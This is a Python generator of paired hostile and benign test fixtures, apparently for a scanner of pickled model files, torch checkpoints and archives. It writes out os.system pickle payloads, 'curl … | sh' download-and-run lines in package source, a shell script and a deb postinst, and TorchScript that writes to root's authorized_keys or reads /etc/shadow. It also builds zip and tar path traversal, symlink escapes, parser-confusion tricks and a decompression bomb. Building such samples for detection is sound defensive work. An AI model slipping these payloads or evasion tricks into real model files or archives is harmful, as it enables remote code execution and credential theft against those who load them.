"""Hostile pickles and programs in containers that two readers read in two ways."""
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from assembly import Raw, build, call, glob, model, pickle, text, tup, val
from pair import CODE, SHELL, Set

EVIL = pickle(call(glob("os", "system"), SHELL), 2)
GOOD = pickle(call(glob("collections", "OrderedDict")), 2)
FLOATS = struct.pack("<64f", *[(-1) ** i * (i % 17) / 16 + 0.01 for i in range(64)])


def storage(key="0", n=64):
    return Raw(tup("storage", glob("torch", "FloatStorage"), key, "cpu", n) + b"Q")


def state(extra=None) -> bytes:
    """data.pkl of a state dict with one tensor, and `extra` beside it."""
    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage(), 0, (8, 8), (8, 1), False, call(glob("collections", "OrderedDict")))
    items = {"fc.weight": tensor}
    body = call(glob("collections", "OrderedDict")) + b"(" + b"".join(val(k) + v for k, v in items.items())
    if extra is not None:
        body += val("meta") + extra
    return b"\x80\x02" + body + b"u."


def zipped(members, stored=True, comment=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
        z.comment = comment
    return out.getvalue()


def torch_zip(data_pkl, more=(), root="archive"):
    return zipped([(f"{root}/data.pkl", data_pkl), (f"{root}/byteorder", b"little"), (f"{root}/data/0", FLOATS), (f"{root}/version", b"3\n"), *[(f"{root}/{n}", d) for n, d in more]])


def tarred(members, mode="w", fmt=tarfile.PAX_FORMAT, pax=None) -> bytes:
    out = io.BytesIO()
    squeeze = {"w:gz": lambda data: gzip.compress(data, mtime=0), "w:bz2": bz2.compress}.get(mode, bytes)
    with tarfile.open(fileobj=out, mode="w", format=fmt) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            if isinstance(data, tuple):
                info.type, info.linkname = data
                t.addfile(info)
                continue
            info.size = len(data)
            if pax:
                info.pax_headers = dict(pax)
            t.addfile(info, io.BytesIO(data))
    return squeeze(out.getvalue())


def raw_member(name: bytes, data: bytes, *, local_name=None, local_method=0, method=0, flags=0, local_flags=None, crc=None, body=None, sizes=None):
    """A zip member by hand: (local header and data, central entry without its offset)."""
    body = data if body is None else body
    crc = zlib.crc32(data) if crc is None else crc
    csize, usize = sizes or (len(body), len(data))
    local_name = name if local_name is None else local_name
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags if local_flags is None else local_flags, local_method, 0, 33, crc, csize, usize, len(local_name), 0) + local_name + body

    def central(offset):
        return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, 0, 33, crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset) + name

    return local, central


def by_hand(members, prefix=b"", hidden=b"", count=None, shift=0, tail=b""):
    out = prefix
    entries = b""
    for local, central in members:
        entries += central(len(out) - shift)
        out += local
    out += hidden
    start = len(out) - shift
    n = len(members) if count is None else count
    return out + entries + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(entries), start, 0) + tail


def torch_tar(pickled: bytes) -> bytes:
    """The layout of torch 0.1.1: sys_info, pickle, storages, tensors."""
    return tarred([("sys_info", pickle({"protocol_version": 1000, "little_endian": True}, 2)), ("pickle", pickled), ("storages", pickle(0, 2)), ("tensors", pickle(0, 2))], fmt=tarfile.USTAR_FORMAT)


def legacy(evil: Raw) -> bytes:
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + pickle({"little_endian": True, "protocol_version": 1001}, 2) + b"\x80\x02" + evil + b"." + pickle([], 2)


def add(out: Set):
    e_state, g_state = state(call(glob("os", "system"), SHELL)), state(call(glob("collections", "OrderedDict")))
    plain = state()
    # Archives made by hand hold no storages, so their pickles name none.
    e_bare = b"\x80\x02" + val({"meta": call(glob("os", "system"), SHELL)}) + b"."
    g_bare = b"\x80\x02" + val({"meta": call(glob("collections", "OrderedDict"))}) + b"."
    bare = b"\x80\x02" + val({"epoch": 3}) + b"."

    def pt(name, hostile, twin, file="model.pt", prove=None):
        out.add("torch", name, hostile, twin, prove, file=file)

    pt("constants-pickle", torch_zip(plain, [("constants.pkl", EVIL)]), torch_zip(plain, [("constants.pkl", GOOD)]))
    pt("upper-case-double", torch_zip(plain, [("DATA.PKL", e_state)]), torch_zip(plain, [("DATA.TXT", b"notes\n")]))
    pt("second-root", zipped([("a/data.pkl", plain), ("a/data/0", FLOATS), ("a/version", b"3\n"), ("b/data.pkl", e_state), ("b/version", b"3\n")]), zipped([("a/data.pkl", plain), ("a/data/0", FLOATS), ("a/version", b"3\n")]))
    pt("storage-is-pickle", torch_zip(plain, [("extra/opt_state", EVIL)]), torch_zip(plain, [("extra/opt_state", GOOD)]))
    pt("deflated-data-pkl", zipped([("archive/data.pkl", e_state), ("archive/data/0", FLOATS), ("archive/version", b"3\n")], stored=False), zipped([("archive/data.pkl", g_state), ("archive/data/0", FLOATS), ("archive/version", b"3\n")], stored=False), file="weights.pth")
    h = [raw_member(b"m/data.pkl", e_bare, local_name=b"m/read.txt"), raw_member(b"m/version", b"3\n")]
    t = [raw_member(b"m/data.pkl", g_bare), raw_member(b"m/version", b"3\n")]
    pt("local-name-differs", by_hand(h), by_hand(t))
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = squeeze.compress(e_bare) + squeeze.flush()
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    good_body = squeeze.compress(g_bare) + squeeze.flush()
    pt("local-method-differs", by_hand([raw_member(b"m/data.pkl", e_bare, method=8, local_method=0, body=body)]), by_hand([raw_member(b"m/data.pkl", g_bare, method=8, local_method=8, body=good_body)]))
    pt("encrypted-flag-lie", by_hand([raw_member(b"m/data.pkl", e_bare, flags=1)]), by_hand([raw_member(b"m/data.pkl", g_bare)]))
    pt("sizes-lie-zero", by_hand([raw_member(b"m/data.pkl", e_bare, sizes=(0, 0)), raw_member(b"m/version", b"3\n")]), by_hand([raw_member(b"m/data.pkl", g_bare), raw_member(b"m/version", b"3\n")]))
    orphan, _ = raw_member(b"m/data.pkl", e_bare)
    pt("orphan-local", by_hand([raw_member(b"m/data.pkl", bare), raw_member(b"m/version", b"3\n")], hidden=orphan), by_hand([raw_member(b"m/data.pkl", bare), raw_member(b"m/version", b"3\n")]))
    pt("two-directories", by_hand([raw_member(b"m/data.pkl", bare)], tail=b"") + by_hand([raw_member(b"m/data.pkl", e_bare)], shift=0), by_hand([raw_member(b"m/data.pkl", bare)]))
    pt("prefix-shifted", by_hand([raw_member(b"m/data.pkl", e_bare), raw_member(b"m/version", b"3\n")], prefix=b"\x89PNG\r\n\x1a\n" + b"\0" * 120, shift=128), by_hand([raw_member(b"m/data.pkl", g_bare), raw_member(b"m/version", b"3\n")]), file="thumb.png")
    pt("comment-holds-zip", zipped([("m/data.pkl", bare)], comment=zipped([("m/data.pkl", e_bare)])), zipped([("m/data.pkl", bare)], comment=b"trained with seed 3"))
    pt("count-one-of-two", by_hand([raw_member(b"m/data.pkl", bare), raw_member(b"m/extra.pkl", EVIL)], count=1), by_hand([raw_member(b"m/data.pkl", bare), raw_member(b"m/extra.pkl", GOOD)]))
    pt("legacy-stacked", legacy(call(glob("os", "system"), SHELL)), legacy(call(glob("collections", "OrderedDict"))), file="old.pth")
    pt("legacy-tar", torch_tar(EVIL), torch_tar(GOOD), file="veryold.pt")
    script = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    {}\n    return torch.relu(x)\n"
    ts = lambda line: torch_zip(plain, [("constants.pkl", pickle((), 2)), ("code/__torch__.py", script.format(line).encode())])
    pt("torchscript-file-op", ts('torch.save(x, "/r\x6fot/.ssh/authorized_keys")'), ts("y = torch.neg(x)"), file="scripted.pt")
    pt("torchscript-from-file", ts('y = torch.from_file("/etc/shadow", False, 100)'), ts("y = torch.zeros([100])"), file="scripted2.pt")
    package = lambda line: zipped([("pkg/.data/version", b"6"), ("pkg/.data/extern_modules", b"os\n"), ("pkg/model/m.pkl", GOOD), ("pkg/net/__init__.py", b""), ("pkg/net/layers.py", line.encode())])
    pt("torch-package-source", package("import os\nos.system('curl http://192.0.2.7/x | sh')\n"), package("import torch\nclass Net(torch.nn.Module):\n    pass\n"), file="package.pt")
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + b"\0" * 400
    pt("pt2-shared-object", zipped([("m/archive_format", b"pt2"), ("m/data/aotinductor/model/c.so", elf), ("m/models/model.json", b"{}")]), zipped([("m/archive_format", b"pt2"), ("m/models/model.json", b"{}")]), file="model.pt2")
    mar = lambda handler: zipped([("MAR-INF/MANIFEST.json", b'{"runtime":"python","model":{"modelName":"m","serializedFile":"m.pt","handler":"h.py","modelVersion":"1.0"}}'), ("m.pt", torch_zip(plain)), ("h.py", handler.encode())], stored=False)
    pt("mar-handler", mar("import subprocess\ndef handle(d, c):\n    return subprocess.check_output(d[0]['body'], shell=True)\n"), mar("import torch\ndef handle(d, c):\n    return [torch.tensor(d[0]['body']).sum().item()]\n"), file="m.mar")

    def box(name, hostile, twin, file, prove=None):
        out.add("archive", name, hostile, twin, prove, file=file)

    box("gzip-second-member", gzip.compress(GOOD, mtime=0) + gzip.compress(EVIL, mtime=0), gzip.compress(GOOD, mtime=0) + gzip.compress(GOOD, mtime=0), "m.pkl.gz")
    box("gzip-no-extension", gzip.compress(EVIL, mtime=0), gzip.compress(GOOD, mtime=0), "weights")
    box("xz-two-streams", lzma.compress(GOOD) + lzma.compress(EVIL), lzma.compress(GOOD) + lzma.compress(GOOD), "m.xz")
    box("lzma-alone-pandas", lzma.compress(EVIL, format=lzma.FORMAT_ALONE), lzma.compress(GOOD, format=lzma.FORMAT_ALONE), "frame.pkl.lzma")
    box("bz2-pandas", bz2.compress(EVIL), bz2.compress(GOOD), "frame.pkl.bz2", "pandas")
    import zstandard

    z = zstandard.ZstdCompressor(level=3)
    box("zstd-pandas", z.compress(EVIL), z.compress(GOOD), "frame.pkl.zst")
    skip = lambda data: struct.pack("<II", 0x184D2A53, len(data)) + data
    box("zstd-skippable", z.compress(GOOD) + skip(EVIL), z.compress(GOOD) + skip(b"note: seed 3"), "frame.zst")
    box("zstd-second-frame", z.compress(GOOD) + z.compress(EVIL), z.compress(GOOD) + z.compress(GOOD), "frame2.zst")
    import lz4.frame

    box("lz4-joblib", lz4.frame.compress(EVIL), lz4.frame.compress(GOOD), "m.joblib.lz4", "joblib")
    box("zlib-raw-joblib", zlib.compress(EVIL), zlib.compress(GOOD), "m.joblib", "joblib")
    legacy_z = lambda data: b"ZF" + hex(len(data)).ljust(19).encode() + zlib.compress(data)
    box("joblib-zfile", legacy_z(EVIL), legacy_z(GOOD), "old.joblib", "joblib")
    box("zip-pandas", zipped([("frame.pkl", EVIL)]), zipped([("frame.pkl", GOOD)]), "frame.pkl.zip", "pandas")
    box("tar-gz-pandas", tarred([("frame.pkl", EVIL)], "w:gz"), tarred([("frame.pkl", GOOD)], "w:gz"), "frame.pkl.tar.gz", "pandas")
    box("pax-renamed", tarred([("notes.txt", EVIL)], pax={"path": "model.pkl"}), tarred([("notes.txt", GOOD)], pax={"path": "model.pkl"}), "bundle.tar")
    box("tar-after-end", tarred([("a.txt", b"hello")]) + tarred([("m.pkl", EVIL)]), tarred([("a.txt", b"hello")]) + tarred([("m.pkl", GOOD)]), "two.tar")
    box("tar-hard-link-out", tarred([("w/model.bin", (tarfile.LNKTYPE, "../../../etc/passwd"))]), tarred([("w/a.bin", b"abc"), ("w/model.bin", (tarfile.LNKTYPE, "w/a.bin"))]), "links.tar")
    box("tar-symlink-then-write", tarred([("w", (tarfile.SYMTYPE, "/ho\x6de/user/.ssh")), ("w/authorized_keys", b"ssh-rsa AAAA")]), tarred([("w/authorized_keys", b"notes")]), "chain.tar")
    box("tar-device", tarred([("w/null", (tarfile.CHRTYPE, ""))]), tarred([("w/null", b"")]), "dev.tar")
    box("tar-absolute", tarred([("/etc/cron.d/x", b"* * * * * root id\n")]), tarred([("etc/notes", b"hello\n")]), "abs.tar")
    box("zip-backslash-slip", zipped([("..\\..\\startup\\x.bat", b"echo")]), zipped([("startup/x.txt", b"echo")]), "slip.zip")
    box("zip-slip-unicode", zipped([("models/../../../../x.pth", b"hello")]), zipped([("models/x.txt", b"hello")]), "slip2.zip")
    sym = io.BytesIO()
    with zipfile.ZipFile(sym, "w") as zz:
        info = zipfile.ZipInfo("weights/latest", (1980, 1, 1, 0, 0, 0))
        info.external_attr = 0o120777 << 16
        zz.writestr(info, "/etc/passwd")
    box("zip-symlink-out", sym.getvalue(), zipped([("weights/latest", b"v3")]), "link.zip")
    deep = EVIL
    deep_good = GOOD
    for layer in (lambda d: gzip.compress(d, mtime=0), lambda d: zipped([("a", d)]), bz2.compress, lambda d: tarred([("b", d)]), lzma.compress, lambda d: zipped([("c", d)], stored=False)):
        deep, deep_good = layer(deep), layer(deep_good)
    box("six-layers", deep, deep_good, "release.dat")
    import py7zr

    def seven(data, filters):
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w", filters=filters) as s:
            s.writestr(b"readme", "README")
            s.writestr(data, "archive/data")
        return buf.getvalue()

    for name, filters in (
        ("copy", [{"id": py7zr.FILTER_COPY}]),
        ("bzip2", [{"id": py7zr.FILTER_BZIP2}]),
        ("delta-lzma2", [{"id": py7zr.FILTER_DELTA, "dist": 2}, {"id": py7zr.FILTER_LZMA2, "preset": 3}]),
        ("bcj-lzma2", [{"id": py7zr.FILTER_X86}, {"id": py7zr.FILTER_LZMA2, "preset": 3}]),
        ("deflate", [{"id": py7zr.FILTER_DEFLATE}]),
        ("ppmd", [{"id": py7zr.FILTER_PPMD, "order": 6, "mem": 20}]),
    ):
        box(f"7z-{name}", seven(EVIL, filters), seven(GOOD, filters), "model.7z" if name != "copy" else "model.bin")
    bomb = gzip.compress(gzip.compress(b"\0" * 60_000_000, mtime=0), mtime=0)
    box("gzip-bomb-double", bomb, gzip.compress(gzip.compress(FLOATS, mtime=0), mtime=0), "w.gz")
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0:~\x9bU\0\0\0\nIDATx\x9cc`\0\0\0\2\0\1H\xaf\xa4q\0\0\0\0IEND\xaeB`\x82"
    box("png-then-elf", png + elf, png, "logo.png")
    box("png-then-zip-pickle", png + torch_zip(e_state), png, "logo2.png")
    box("script-in-bin", b"#!/bin/sh\ncurl -s http://192.0.2.7/p | sh\n", b"trained on 2024-01-02\nseed 3\n", "weights.bin")
    box("pe-in-weights", b"\0" * 4096 + pe() + b"\0" * 4096, b"\0" * 4096 + FLOATS * 20 + b"\0" * 4096, "model.bin")
    ar = lambda script: b"!<arch>\n" + b"".join(f"{n:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(d):<10}`\n".encode() + d + b"\n" * (len(d) % 2) for n, d in [("debian-binary", b"2.0\n"), ("control.tar.gz", tarred([("postinst", script)], "w:gz")), ("data.tar.gz", tarred([("usr/share/m/model.pkl", GOOD)], "w:gz"))])
    box("deb-postinst", ar(b"#!/bin/sh\ncurl -s http://192.0.2.7/p | sh\n"), ar(b"#!/bin/sh\nldconfig\n"), "model.deb")


def pe():
    """The headers of a small PE executable."""
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
    return dos + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + struct.pack("<H", 0x20B) + b"\0" * 238 + b".text\0\0\0" + b"\0" * 32 + b"\x90" * 512
